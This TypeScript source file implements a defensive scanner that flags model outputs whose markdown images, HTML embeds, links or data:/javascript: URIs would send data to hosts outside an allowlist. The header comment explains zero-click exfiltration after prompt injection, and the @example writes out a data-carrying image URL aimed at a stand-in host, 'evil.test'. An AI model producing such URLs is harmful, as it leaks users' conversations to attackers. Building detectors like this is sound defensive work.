import type { RawFinding, ScanContext, Scanner } from '../../core/types.js';
import { classifyUrl, type PayloadSignals } from './classify-url.js';
import { extractUrlReferences, type UrlReference, type UrlRole } from './extract.js';
import { createHostAllowlist, isIpLiteral, type HostAllowlist } from './hosts.js';

/**
 * `exfil`: a model that was fed injected instructions can leak the conversation by writing a
 * markdown image or an HTML tag whose URL carries the data: the chat UI fetches it the moment the
 * answer is shown (zero-click). This scanner finds every URL the answer would make a renderer fetch
 * or offer, resolves it like a browser does, and reports those pointing outside `options.allowedHosts`.
 *
 * Scores: images, iframes, scripts, stylesheets and other auto-loaded URLs to an unknown host 0.9
 * (0.97 when the URL carries data); links that hide their target 0.6 (0.8 with data); bare URLs the
 * reader can see 0.4 (0.7 with data); `data:` and `javascript:` URIs in rendered places 0.6–0.95;
 * allowed hosts only when they carry data, at 0.2–0.3 (recorded, not acted on by default).
 *
 * It runs on the normalized text, so a URL split by zero-width characters is seen whole. Because
 * normalization folds look-alike letters (Cyrillic `а` → `a`), an allowed host cannot be trusted in
 * a text where folding happened: such URLs are reported as unknown (detail `hostUnverified`).
 *
 * @example
 * // policy: output.scanners.exfil.options.allowedHosts: [example.com, "*.example.org"]
 * await guard.checkOutput('![x](https://evil.test/p?d=c2VjcmV0IHN0dWZm)'); // → block
 */
export const exfilScanner: Scanner = {
  id: 'exfil',
  directions: ['output', 'tool'],
  input: 'normalized',
  deterministic: true,
  description: 'Markdown images/links, HTML and CSS that send data to hosts outside options.allowedHosts; data: and javascript: URIs',
  scan(text, ctx) {
    return scanForExfiltration(text, ctx);
  },
};

/** Role → finding kind for a network URL to a host outside the allowlist. */
const KIND_BY_ROLE: Readonly<Record<UrlRole, string>> = {
  image: 'image_exfil',
  embed: 'html_embed',
  link: 'link_exfil',
  visible_link: 'link_exfil',
};

/** Score for [plain, carrying data] per role, for an unknown host. */
const UNKNOWN_HOST_SCORE: Readonly<Record<UrlRole, readonly [number, number]>> = {
  image: [0.9, 0.97],
  embed: [0.9, 0.97],
  link: [0.6, 0.8],
  visible_link: [0.4, 0.7],
};

function scanForExfiltration(text: string, ctx: ScanContext): RawFinding[] {
  const allowlist = readAllowlist(ctx.options);
  const hostsUnverifiable = ctx.signals.some((s) => s.kind === 'mixed_script');
  const { references, truncated } = extractUrlReferences(text);
  const findings: RawFinding[] = [];
  for (const ref of references) {
    const finding = judgeReference(ref, allowlist, hostsUnverifiable);
    if (finding) findings.push(finding);
  }
  if (truncated) {
    // Thousands of URLs in one answer is itself suspicious, and the rest went unchecked: fail closed.
    findings.push({ kind: 'too_many_urls', score: 0.9, start: 0, end: text.length, detail: { checked: references.length } });
  }
  return findings;
}

function readAllowlist(options: Record<string, unknown>): HostAllowlist {
  const hosts = options.allowedHosts ?? [];
  if (!Array.isArray(hosts)) throw new Error('exfil: options.allowedHosts must be a list of host names');
  return createHostAllowlist(hosts);
}

function judgeReference(ref: UrlReference, allowlist: HostAllowlist, hostsUnverifiable: boolean): RawFinding | null {
  const span = { start: ref.start, end: ref.end };
  const url = classifyUrl(ref.url);
  switch (url.type) {
    case 'relative':
    case 'invalid':
    case 'other':
      return null;
    case 'script':
      return { kind: 'script_uri', score: ref.role === 'visible_link' ? 0.7 : 0.95, ...span, detail: { element: ref.element } };
    case 'data':
      return dataUriFinding(ref, url.mediaType);
    case 'network':
      return networkFinding(ref, url.hostname, url.userinfo, url.payload, allowlist, hostsUnverifiable);
  }
}

/**
 * `data:` URIs carry their content inline: an SVG or HTML document in an image or frame can run
 * script or hide a payload from URL-based filters; a raster image is mainly obfuscation.
 */
function dataUriFinding(ref: UrlReference, mediaType: string): RawFinding | null {
  const span = { start: ref.start, end: ref.end };
  const detail = { element: ref.element, mediaType: mediaType.slice(0, 100) };
  if (ref.role === 'embed') return { kind: 'data_uri', score: 0.95, ...span, detail };
  if (ref.role === 'image') {
    const score = mediaType === 'image/svg+xml' ? 0.9 : mediaType.startsWith('image/') ? 0.6 : 0.8;
    return { kind: 'data_uri', score, ...span, detail };
  }
  return { kind: 'data_uri', score: ref.role === 'link' ? 0.8 : 0.5, ...span, detail };
}

function networkFinding(
  ref: UrlReference,
  hostname: string,
  userinfo: boolean,
  payload: PayloadSignals,
  allowlist: HostAllowlist,
  hostsUnverifiable: boolean,
): RawFinding | null {
  const span = { start: ref.start, end: ref.end };
  const listed = allowlist.allows(hostname);
  const allowed = listed && !hostsUnverifiable;
  const ipLiteral = isIpLiteral(hostname);
  const detail: Record<string, unknown> = {
    element: ref.element,
    host: reportableHost(hostname, payload),
    allowed,
    carriesData: payload.carriesData,
    ...(payload.reasons.length > 0 ? { dataSignals: payload.reasons } : {}),
    ...(payload.params > 0 ? { params: payload.params } : {}),
    ...(ipLiteral ? { ipLiteral } : {}),
    ...(userinfo ? { userinfo } : {}),
    ...(listed && hostsUnverifiable ? { hostUnverified: 'look-alike letters were folded in this text' } : {}),
  };
  const kind = KIND_BY_ROLE[ref.role];
  if (allowed) {
    if (!payload.carriesData) return null;
    return { kind, score: ref.role === 'image' || ref.role === 'embed' ? 0.3 : 0.2, ...span, detail };
  }
  const [plain, withData] = UNKNOWN_HOST_SCORE[ref.role];
  // Credentials in the URL and bare IP addresses are ways to dress a host up or to avoid DNS names.
  const disguise = (ipLiteral ? 0.05 : 0) + (userinfo ? 0.05 : 0);
  const score = Math.min(1, (payload.carriesData ? withData : plain) + disguise);
  return { kind, score: Math.round(score * 1000) / 1000, ...span, detail };
}

/** The host for the audit log; when its labels carry data, only the parent domain is kept. */
function reportableHost(hostname: string, payload: PayloadSignals): string {
  if (!payload.reasons.includes('host_label')) return hostname.slice(0, 253);
  return `*.${hostname.split('.').slice(-2).join('.')}`;
}
